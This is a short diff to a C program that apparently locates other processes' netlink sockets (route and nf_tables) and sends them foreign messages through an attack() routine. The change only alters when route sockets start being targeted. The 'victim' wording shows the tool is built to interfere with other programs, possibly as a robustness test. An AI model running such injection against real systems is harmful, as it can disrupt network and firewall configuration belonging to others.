@@ -294,7 +294,7 @@ int main(int argc, char **argv)
 	struct target t[MAX_TARGETS];
 	uint32_t seen[MAX_TARGETS * 4];
 	size_t n_seen = 0;
-	time_t start = time(NULL), end = start + secs;
+	time_t end = time(NULL) + secs, rtnl_from = 0;
 	unsigned round = 0;
 
 	srand((unsigned)getpid());
@@ -311,10 +311,13 @@ int main(int argc, char **argv)
 				printf("target %s port %u\n", t[i].proto == NETLINK_ROUTE ? "rtnl" : "nfnetlink", t[i].port);
 				fflush(stdout);
 			}
-			/* Phase one (a third of the time): nf_tables sockets only, so a victim
-			 * whose rtnl read fails on the first foreign message still gets to
-			 * its nf_tables dump; then everything. */
-			if (t[i].proto == NETLINK_ROUTE && time(NULL) < start + secs / 3) {
+			/* Phase one (3 s from the first socket found): nf_tables sockets
+			 * only, so a victim whose rtnl read fails on the first foreign
+			 * message still gets to its nf_tables dump; then everything. */
+			if (!rtnl_from) {
+				rtnl_from = time(NULL) + 3;
+			}
+			if (t[i].proto == NETLINK_ROUTE && time(NULL) < rtnl_from) {
 				continue;
 			}
 			attack(t[i].proto == NETLINK_ROUTE ? rt : nf, &t[i], round);
